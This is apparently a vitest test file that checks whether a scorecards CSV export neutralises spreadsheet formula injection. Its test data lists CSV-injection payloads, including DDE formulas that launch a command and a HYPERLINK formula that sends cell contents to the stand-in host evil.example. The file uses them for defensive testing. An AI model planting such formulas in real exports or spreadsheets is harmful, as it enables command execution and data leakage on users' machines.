import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BusinessCalendar } from '../../metrics/calendar/calendar.ts';
import { refresh } from '../../metrics/refresh.ts';
import { parseConfig } from '../../pipelines/config.ts';
import { bearer, NOW, postNdjson, seed, startServer, type TestServer } from '../server/test-server.ts';

/**
 * /scorecards.csv with brand ids and names a spreadsheet would run as formulas (CSV injection, OWASP): every cell
 * that is text must not begin with = + - @, a tab or a carriage return once the CSV is parsed.
 */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
];
const HOSTILE_BRANDS = FORMULAS.map((name, i) => ({ brand_id: i === 0 ? '=B9' : `F${i}`, name, status: 'active', dispatch_days: 2 }));

/** RFC 4180 fields of a CSV text. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

let server: TestServer;
beforeAll(async () => {
  server = await startServer();
  await seed(server);
  const response = await postNdjson(server, '/api/ingest/brands', HOSTILE_BRANDS.map((b) => JSON.stringify(b)).join('\n'));
  expect(response.status).toBe(200);
  await refresh(server.warehouse, { now: NOW, calendar: new BusinessCalendar(parseConfig({}).calendar) });
});
afterAll(async () => server?.close());

describe('/scorecards.csv', () => {
  it('neutralises every cell a spreadsheet would read as a formula', async () => {
    const response = await fetch(`${server.url}/scorecards.csv`, { headers: bearer(server.tokens.admin) });
    expect(response.status).toBe(200);
    const rows = parseCsv(await response.text());
    const header = rows[0]!;
    const names = rows.slice(1).map((r) => r[header.indexOf('name')]);
    const ids = rows.slice(1).map((r) => r[header.indexOf('brand_id')]);
    // Every hostile brand is in the export, its text kept after the neutralising quote.
    for (const brand of HOSTILE_BRANDS) {
      expect(names.some((n) => n === `'${brand.name}` || n === `'${brand.name.trim()}` || n?.endsWith(brand.name.trim())), brand.name).toBe(true);
    }
    expect(ids).toContain("'=B9");
    const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?(e-?\d+)?$/.test(cell));
    expect(dangerous).toEqual([]);
    console.log(`[reliability] CSV injection: ${FORMULAS.length} formula names, ${rows.length - 1} rows exported, ${dangerous.length} dangerous cells`);
  });
});
